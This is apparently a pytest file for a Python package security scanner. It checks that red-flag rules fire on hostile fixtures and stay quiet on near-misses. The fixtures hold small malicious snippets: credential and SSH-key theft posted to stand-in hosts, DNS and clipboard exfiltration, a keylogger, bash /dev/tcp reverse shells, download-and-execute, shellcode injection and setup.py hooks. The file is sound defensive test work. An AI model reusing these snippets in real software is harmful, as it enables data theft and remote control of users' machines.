"""The correlated rules, each both ways: where a capability and an indicator meet the rule
fires at its severity; the near miss (the capability alone, the indicator alone, or both in
places that never meet) gets the lone severity or nothing, exactly as stated."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_scan_redflags import CASES as PLAIN_CASES
from test_scan_redflags import TESTED_THERE

from pysecbook.checker.scan import open_target, scan
from pysecbook.checker.scan.rules import RULES
from pysecbook.checker.scan.rules.layout import RULES as LAYOUT

PY = "pkg/mod.py"

# (rule, files, (path, line, severity) it must raise, near-miss files, the severities the
#  rule may have on the near miss: an empty set means it must not fire there at all)
CASES: list[tuple[str, dict[str, bytes], tuple[str, int | None, str], dict[str, bytes], set[str]]] = [
    ("PSB-RF-EXFIL-SECRETS",
     {PY: b"import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\n"
          b"requests.post('https://c.example.invalid', data=key)\n"},
     (PY, 3, "high"),
     {PY: b"import requests\ncfg = open('settings.ini').read()\n"
          b"requests.post('https://c.example.invalid', data=cfg)\n"}, set()),
    ("PSB-RF-SECRET-READ",
     {PY: b"import os\ndef keys():\n    return open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"},
     (PY, 3, "medium"),
     {PY: b"import os\ndef hosts():\n    return open(os.path.expanduser('~/.config/app.ini')).read()\n"}, set()),
    ("PSB-RF-EXFIL-DNS",
     {PY: b"import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.example.invalid')\n"},
     (PY, 2, "high"),
     {PY: b"import socket\ndef resolve(host):\n    return socket.gethostbyname(host)\n"}, set()),
    ("PSB-RF-EXFIL-HOSTINFO",
     {PY: b"import platform, requests\nrequests.post('http://203.0.113.4/h', data=platform.node())\n"},
     (PY, 2, "high"),
     {PY: b"import os, requests\n"
          b"requests.post('https://api.example.invalid', json={'t': os.environ['API_TOKEN']})\n"},
     {"medium"}),
    ("PSB-RF-REVERSE-SHELL",
     {PY: b"import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.4', 9))\n"
          b"subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n"},
     (PY, 4, "high"),
     {PY: b"import socket, subprocess\ns = socket.socket()\ns.connect(('localhost', 9))\n"
          b"subprocess.call(['ls'])\n"}, set()),
    ("PSB-RF-REVERSE-SHELL",
     {PY: b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.4/9 0>&1')\n"},
     (PY, 2, "high"),
     {PY: b"import os\nos.system('bash --version')\n"}, set()),
    ("PSB-RF-SHADY-LINK",
     {PY: b"import requests\nrequests.get('https://abc.ngrok.invalid/c')\n"},
     (PY, 2, "high"),
     {PY: b"DOCS = 'see https://bit.ly/x for the slides'\n"}, {"medium"}),
    ("PSB-RF-EXEC-OBFUSCATED",
     {PY: b"exec(chr(112) + chr(114) + chr(105) + chr(110) + chr(116) + '(1)')\n"},
     (PY, 1, "high"),
     {PY: b"x = chr(112) + chr(114) + chr(105) + chr(110)\nprint(x)\n"}, set()),
    ("PSB-RF-DOWNLOAD-EXEC",
     {PY: b"import subprocess, urllib.request\ndef go():\n"
          b"    urllib.request.urlretrieve('https://x.example.invalid/a', '/tmp/a')\n"
          b"    subprocess.run(['/tmp/a'])\n"},
     (PY, 4, "high"),
     {PY: b"import subprocess, urllib.request\ndef fetch(dest):\n"
          b"    urllib.request.urlretrieve('https://x.example.invalid/a.tar', dest)\n"
          b"def build():\n    subprocess.run(['make'])\n"}, set()),
    ("PSB-RF-STEGO-EXEC",
     {PY: b"from PIL import Image\nimg = Image.open('logo.png')\nexec(img.info['c'])\n"},
     (PY, 3, "high"),
     {PY: b"from PIL import Image\nimg = Image.open('logo.png')\nprint(img.info['c'])\n"}, set()),
    ("PSB-RF-OBFUSCATION",
     {PY: b"name = 'tixe'[::-1]\n"},
     (PY, 1, "medium"),
     {PY: b"def rev(s):\n    return s[::-1]\n"}, set()),
    ("PSB-RF-HIDDEN-IMPORT",
     {PY: b"m = __import__('sub' + 'process')\n"},
     (PY, 1, "high"),
     {PY: b"import importlib\ndef load(name):\n    return importlib.import_module(name)\n"}, set()),
    ("PSB-RF-PACKED",
     {PY: b"from pytransform import pyarmor_runtime\npyarmor_runtime()\n"},
     (PY, 2, "high"),
     {PY: b"from pytransform import pyarmor_runtime\ndef later():\n    pyarmor_runtime()\n"},
     {"medium"}),
    ("PSB-RF-OPAQUE-BLOB",
     {PY: b"BLOB = '" + bytes(range(0x21, 0x7f)) .replace(b"'", b"").replace(b"\\", b"") * 12 + b"'\n"},
     (PY, 1, "low"),
     {PY: b"TEXT = '" + b"lorem ipsum dolor sit amet " * 60 + b"'\n"}, set()),
    ("PSB-RF-PERSISTENCE",
     {PY: b"import os\nos.system('crontab /tmp/job.cron')\n"},
     (PY, 2, "high"),
     {PY: b"import os\ndef show():\n    os.system('crontab -l')\n"}, {"low"}),
    ("PSB-RF-SILENT-PROCESS",
     {PY: b"import subprocess\nsubprocess.Popen(['python3', '-c', 'print(1)'], "
          b"stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"},
     (PY, 2, "high"),
     {PY: b"import subprocess\ndef quiet():\n    subprocess.run(['git', 'status'], "
          b"stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"}, {"low"}),
    ("PSB-RF-SELF-PROPAGATE",
     {PY: b"import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n"},
     (PY, 2, "high"),
     {PY: b"import subprocess\ndef release():\n    subprocess.run(['twine', 'check', 'dist/*'])\n"},
     set()),
    ("PSB-RF-CLIPBOARD",
     {PY: b"import pyperclip, requests\ntext = pyperclip.paste()\n"
          b"requests.post('https://x.example.invalid', data=text)\npyperclip.copy('')\n"},
     (PY, 4, "high"),
     {PY: b"import pyperclip\ndef paste_into(editor):\n    editor.insert(pyperclip.paste())\n"},
     {"low"}),
    ("PSB-RF-SCREENSHOT",
     {PY: b"import pyautogui, requests\nshot = pyautogui.screenshot()\n"
          b"requests.post('https://x.example.invalid', files={'f': shot})\n"},
     (PY, 2, "high"),
     {PY: b"import pyautogui\ndef snap(path):\n    pyautogui.screenshot(path)\n"}, {"low"}),
    ("PSB-RF-KEYLOGGER",
     {PY: b"import keyboard, requests\nkeyboard.on_press(lambda e: requests.post("
          b"'https://x.example.invalid', data=e.name))\n"},
     (PY, 2, "high"),
     {PY: b"import keyboard\nkeyboard.add_hotkey('ctrl+q', quit)\n"}, set()),
    ("PSB-RF-NATIVE-DROP",
     {PY: b"import ctypes\ndef load(blob):\n    open('/tmp/x.dll', 'wb').write(blob)\n"
          b"    return ctypes.WinDLL('/tmp/x.dll')\n"},
     (PY, 4, "high"),
     {PY: b"import ctypes\ndef save(blob):\n    open('/tmp/x.dll', 'wb').write(blob)\n"
          b"def load():\n    return ctypes.CDLL('libm.so.6')\n"}, set()),
    # A link to a binary writes no bytes: setuptools' tests link its own launcher and run it.
    ("PSB-RF-NATIVE-DROP",
     {PY: b"import shutil, subprocess\ndef go(blob):\n    shutil.copyfile(blob, '/tmp/tool.exe')\n"
          b"    subprocess.Popen(['/tmp/tool.exe'])\n"},
     (PY, 4, "high"),
     {PY: b"import pathlib, subprocess\ndef go(tmp, launcher):\n"
          b"    pathlib.Path('/tmp/foo.exe').symlink_to(launcher)\n"
          b"    subprocess.Popen(['/tmp/foo.exe'])\n"}, set()),
    ("PSB-RF-SHELLCODE",
     {PY: b"import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 4096, 0x3000, 0x40)\n"
          b"ctypes.memmove(p, b'\\xc3', 1)\nk.CreateThread(0, 0, p, 0, 0, 0)\n"},
     (PY, 5, "high"),
     {PY: b"import ctypes\nbuf = ctypes.create_string_buffer(8)\nctypes.memmove(buf, b'x', 1)\n"},
     set()),
    ("PSB-RF-UNICODE-LOOKALIKE",
     {PY: "\uff45\uff56\uff41\uff4c('1')\n".encode()},
     (PY, 1, "high"),
     {PY: "\u03c0 = 3.14\nprint(\u03c0)\n".encode()}, set()),
    ("PSB-RF-DATA-PAYLOAD",
     {"pkg/icon.png": b"\x89PNG\r\n\x1a\n" + bytes(8) + b"IEND\xaeB`\x82" + b"print(1)\n" * 8},
     ("pkg/icon.png", None, "medium"),
     {"pkg/icon.png": b"\x89PNG\r\n\x1a\n" + bytes(8) + b"IEND\xaeB`\x82"}, set()),
    ("PSB-RF-INSTALL-HOOK",
     {"setup.py": b"from setuptools import setup\nfrom setuptools.command.install import install\n"
                  b"class I(install):\n    def run(self):\n        install.run(self)\n"
                  b"setup(name='x', cmdclass={'install': I})\n"},
     ("setup.py", None, "low"),
     {"setup.py": b"from setuptools import setup\nclass Helper:\n    def run(self):\n        pass\n"
                  b"setup(name='x')\n"}, set()),
    ("PSB-RF-SETUP-CHAIN",
     {"setup.py": b"import pkg.boot\nfrom setuptools import setup\nsetup(name='x')\n",
      "pkg/__init__.py": b"", "pkg/boot.py": b"import subprocess\nsubprocess.run(['id'])\n"},
     ("setup.py", 1, "high"),
     {"setup.py": b"import pkg.boot\nfrom setuptools import setup\nsetup(name='x')\n",
      "pkg/__init__.py": b"",
      "pkg/boot.py": b"import subprocess\ndef run():\n    subprocess.run(['id'])\n"}, set()),
    # An exec at import weighs what it weighs in setup.py itself (PSB-RF-SETUP-EXEC): medium.
    ("PSB-RF-SETUP-CHAIN",
     {"setup.py": b"import helpers\nfrom setuptools import setup\nsetup(name='x')\n",
      "helpers.py": b"exec(open('pkg/_version.py').read())\n", "pkg/_version.py": b"v = '1'\n"},
     ("setup.py", 1, "medium"),
     {"setup.py": b"import helpers\nfrom setuptools import setup\nsetup(name='x')\n",
      "helpers.py": b"def version():\n    exec(open('pkg/_version.py').read())\n"}, set()),
    ("PSB-RF-META-LOOKALIKE",
     {"setup.py": b"import os\nfrom setuptools import setup\nos.system('id')\n"
                  b"setup(name='numpyy', description='Arrays')\n"},
     ("setup.py", None, "high"),
     {"setup.py": b"from setuptools import setup\nsetup(name='numpyy', description='Arrays')\n"},
     {"medium"}),
    ("PSB-RF-META-NO-DESCRIPTION",
     {"pyproject.toml": b"[project]\nname = 'tidyrows'\nversion = '1.0'\ndescription = 'TODO'\n"},
     ("pyproject.toml", None, "low"),
     {"pyproject.toml": b"[project]\nname = 'tidyrows'\nversion = '1.0'\n"
                        b"description = 'Tidy rows of CSV files'\n"}, set()),
    ("PSB-RF-META-ZERO-VERSION",
     {"setup.py": b"import os\nfrom setuptools import setup\nos.system('id')\n"
                  b"setup(name='tidyrows', version='0.0.0', description='Tidy rows')\n"},
     ("setup.py", None, "medium"),
     {"setup.py": b"from setuptools import setup\n"
                  b"setup(name='tidyrows', version='0.0.0', description='Tidy rows')\n"}, set()),
    ("PSB-RF-META-MISMATCH",
     {"pyproject.toml": b"[project]\nname = 'tidyrows'\nversion = '1.0'\n"
                        b"description = 'Tidy rows of CSV files'\n",
      "tidyrows.py": b"import socket\ndef go():\n    socket.create_connection(('x.example.invalid', 1))\n"},
     ("tidyrows.py", None, "medium"),
     {"pyproject.toml": b"[project]\nname = 'tidyrows'\nversion = '1.0'\n"
                        b"description = 'Tidy rows of CSV files fetched from a URL'\n",
      "tidyrows.py": b"import socket\ndef go():\n    socket.create_connection(('x.example.invalid', 1))\n"},
     set()),
]


def flags(tmp_path: Path, files: dict[str, bytes]) -> list[tuple[str, str, int | None, str]]:
    for rel, data in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes(data)
    outcome = scan(open_target(str(tmp_path)), jobs=1)
    return [(f.rule_id, f.path, f.line, f.severity) for f in outcome.findings if f.source == "redflag"]


IDS = [f"{c[0]}-{i}" for i, c in enumerate(CASES)]


@pytest.mark.parametrize(("rule", "bad", "where", "near", "near_severities"), CASES, ids=IDS)
def test_fires(tmp_path: Path, rule: str, bad, where, near, near_severities) -> None:
    path, line, severity = where
    assert (rule, path, line, severity) in flags(tmp_path, bad)


@pytest.mark.parametrize(("rule", "bad", "where", "near", "near_severities"), CASES, ids=IDS)
def test_near_miss(tmp_path: Path, rule: str, bad, where, near, near_severities) -> None:
    assert {f[3] for f in flags(tmp_path, near) if f[0] == rule} == near_severities


def test_every_rule_fires_and_stays_quiet_somewhere() -> None:
    """Every registered rule has a must-fire and a must-not-fire case, here or in
    test_scan_redflags.py (or, for the bytecode and trust rules, test_scan_blind_spots.py)."""
    covered = ({c[0] for c in CASES} | {c[0] for c in PLAIN_CASES} | TESTED_THERE
               | set(LAYOUT))  # the readers' rules: test_scan_hostile.py, test_scan_blind_spots.py
    assert covered == set(RULES)
    for rule in RULES.values():
        assert rule.id.startswith(("PSB-RF-", "PSB-TRUST-", "PSB-ARCHIVE-", "PSB-DIR-", "PSB-INSTALL-"))
        assert rule.severity in ("low", "medium", "high") and rule.lone in (None, "low", "medium")
        assert rule.cwe > 0 and rule.title and rule.tactic_id.startswith("TA")


def test_a_shell_marker_counts_only_as_a_word(tmp_path: Path) -> None:
    """awscli's ``emr socks`` runs ``putty -ssh -i KEY ... -N -D 8157``, a SOCKS tunnel: the
    ``sh -i`` inside ``-ssh -i`` is no shell. ``/bin/sh -i`` wired to a socket still is."""
    tunnel = {PY: b"import subprocess\ndef socks(key, host):\n"
                  b"    return subprocess.call(['putty', '-ssh', '-i', key, host, '-N', '-D', '8157'])\n"}
    assert not [f for f in flags(tmp_path / "tunnel", tunnel) if f[0] == "PSB-RF-REVERSE-SHELL"]
    shell = {PY: b"import subprocess\nsubprocess.call(['bash', '-c', 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'])\n"}
    assert ("PSB-RF-REVERSE-SHELL", PY, 2, "high") in flags(tmp_path / "shell", shell)
